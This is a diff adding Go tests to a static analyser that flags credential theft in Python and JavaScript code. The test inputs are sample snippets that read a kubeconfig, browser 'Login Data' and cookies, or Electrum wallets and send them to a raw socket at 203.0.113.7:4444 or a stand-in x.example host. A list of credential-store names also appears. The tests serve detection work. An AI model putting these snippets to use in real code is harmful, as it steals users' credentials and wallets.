@@ -160,6 +160,60 @@ func TestAcrossFiles(t *testing.T) {
 	}
 }
 
+// A function of another file that sends what its parameter gets: the
+// caller's file offers what it gives it, and the analysis of the file
+// that defines it (probed for the name) reports the send.
+func TestSendAcrossFiles(t *testing.T) {
+	a := "from pathlib import Path\nfrom uplink import ship\nraw = (Path.home() / '.kube' / 'config').read_text()\nship(raw)\n"
+	b := "import socket\ndef ship(text):\n    s = socket.create_connection(('203.0.113.7', 4444))\n    s.sendall(text.encode())\n"
+	_, sa, _ := AnalyzeProbed(a, Python)
+	if sa.Calls["ship"]&CredFile == 0 {
+		t.Fatalf("summary: %+v", sa)
+	}
+	fb, _, pb := AnalyzeProbed(b, Python)
+	if len(fb) != 0 || !pb.Hit(sa) {
+		t.Fatalf("alone: %+v, hit %v", fb, pb.Hit(sa))
+	}
+	if fs, _ := Analyze(b, Python, sa); len(fs) != 1 || fs[0].Kind != SecretSend {
+		t.Fatalf("with the caller's summary: %+v", fs)
+	}
+	// A method of an object (client.ship) offers nothing by its name.
+	c := "from pathlib import Path\nraw = (Path.home() / '.kube' / 'config').read_text()\nclient.ship(raw)\n"
+	if _, sc := Analyze(c, Python, nil); len(sc.Calls) != 0 {
+		t.Fatalf("method call offered: %+v", sc.Calls)
+	}
+}
+
+// The names of credential stores joined into a path make what is read
+// from it a credential file; a container given it holds it.
+func TestCredStoreNames(t *testing.T) {
+	cases := []struct {
+		src  string
+		lang Lang
+		want string
+	}{
+		{"import os, json, urllib.request\nseen = {}\nfor leaf in ('Login Data', 'Cookies'):\n    p = os.path.join(d, leaf)\n    with open(p, 'rb') as fh:\n        seen[p] = fh.read()\nurllib.request.urlopen(urllib.request.Request('https://x.example', data=json.dumps(seen).encode()))\n", Python, "secret-send"},
+		{"const form = new FormData();\nfor (const f of fs.readdirSync(path.join(base, 'Electrum/wallets'))) {\n  form.append('doc', fs.readFileSync(f));\n}\nfetch('https://x.example', { method: 'POST', body: form });\n", JS, "secret-send"},
+		// Public keys, a key's path given to ssh-add, a token put under its key.
+		{"import os, requests\nfor k in ('id_rsa.pub',):\n    requests.post('https://api.github.com/user/keys', json={'key': open(os.path.join(os.path.expanduser('~/.ssh'), k)).read()})\n", Python, ""},
+		{"import os, subprocess\nfor k in ('id_rsa', 'id_ed25519'):\n    subprocess.run(['ssh-add', os.path.expanduser('~/.ssh/' + k)])\n", Python, ""},
+		{"const params = new URLSearchParams();\nparams.append('token', process.env.SLACK_TOKEN);\nfetch('https://slack.com/api/chat.postMessage', { method: 'POST', body: params });\n", JS, ""},
+		{"const h = new Headers();\nh.set('Authorization', `Bearer ${process.env.API_KEY}`);\nfetch('https://api.example.com/v1', { headers: h });\n", JS, ""},
+		// Words that are no store: a consent banner's "Cookies" is not read.
+		{"import requests\nrequests.post('https://x.example', json={'banner': 'Cookies', 'text': open('notes.txt').read()})\n", Python, ""},
+	}
+	for _, c := range cases {
+		if got := kinds(c.src, c.lang); got != c.want {
+			t.Errorf("%q: got %q, want %q", c.src, got, c.want)
+		}
+	}
+	for s, want := range map[string]bool{"Login Data": true, "Default/Cookies": true, "Exodus/exodus.wallet": true, "~/.ssh/id_rsa": true, "id_rsa.pub": false, "Cookies policy": false, "notes.txt": false, "wallet": false, "a\x00Local State": true} {
+		if got := credStoreName(s); got != want {
+			t.Errorf("credStoreName(%q) = %v, want %v", s, got, want)
+		}
+	}
+}
+
 // TestProbes: an analysis without the others' summary knows whether the
 // summary would change it.
 func TestProbes(t *testing.T) {
